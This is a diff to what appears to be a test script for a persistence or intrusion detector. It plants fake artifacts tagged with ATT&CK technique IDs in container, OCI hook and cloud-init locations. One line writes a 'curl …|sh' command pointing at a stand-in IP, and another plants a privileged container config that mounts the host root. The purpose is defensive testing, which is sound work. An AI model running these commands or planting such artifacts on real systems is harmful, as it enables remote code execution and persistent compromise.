@@ -216,6 +216,10 @@ plant T1543.005 /etc/docker/daemon.json "mkdir -p etc/docker; echo '{\"hosts\":[
 plant T1543.005 /etc/containers/oci/hooks.d/a.json "mkdir -p etc/containers/oci/hooks.d; echo '{\"hook\":{\"path\":\"/x\"}}' >etc/containers/oci/hooks.d/a.json"
 plant T1543.005 /etc/containers/systemd/a.container "mkdir -p etc/containers/systemd; printf '[Container]\nImage=x\n' >etc/containers/systemd/a.container"
 plant T1610 /var/lib/docker/containers/aa/hostconfig.json "mkdir -p var/lib/docker/containers/aa; echo '{\"Binds\":[\"/:/host\"],\"Privileged\":true}' >var/lib/docker/containers/aa/hostconfig.json"
+plant T1105 /var/lib/docker/overlay2/bb/diff/opt/x \
+	"cd var/lib; mkdir -p docker/containers/aa docker/image/overlay2/layerdb/mounts/aa docker/overlay2/bb/diff/opt; echo '{\"Name\":\"/web\",\"Config\":{\"Image\":\"nginx\"}}' >docker/containers/aa/config.v2.json; printf bb >docker/image/overlay2/layerdb/mounts/aa/mount-id; cp ../../bin/true docker/overlay2/bb/diff/opt/x"
+plant T1105 /var/lib/containers/storage/overlay/bb/diff/x \
+	"cd var/lib; mkdir -p containers/storage/overlay-containers containers/storage/overlay/bb/diff; echo '[{\"id\":\"aa\",\"names\":[\"web\"],\"image\":\"nginx\",\"layer\":\"bb\"}]' >containers/storage/overlay-containers/containers.json; printf '#!/bin/sh\nid\n' >containers/storage/overlay/bb/diff/x; chmod 755 containers/storage/overlay/bb/diff/x"
 plant T1543 /etc/cni/net.d/a.conf "mkdir -p etc/cni/net.d; echo '{\"type\":\"/tmp/x\"}' >etc/cni/net.d/a.conf"
 plant T1037 /var/lib/cloud/scripts/per-boot/a.sh "mkdir -p var/lib/cloud/scripts/per-boot; printf '#!/bin/sh\nid\n' >var/lib/cloud/scripts/per-boot/a.sh"
 plant T1037 /var/lib/cloud/instances/i/user-data.txt "mkdir -p var/lib/cloud/instances/i; printf '#!/bin/sh\ncurl http://192.0.2.1/x|sh\n' >var/lib/cloud/instances/i/user-data.txt"
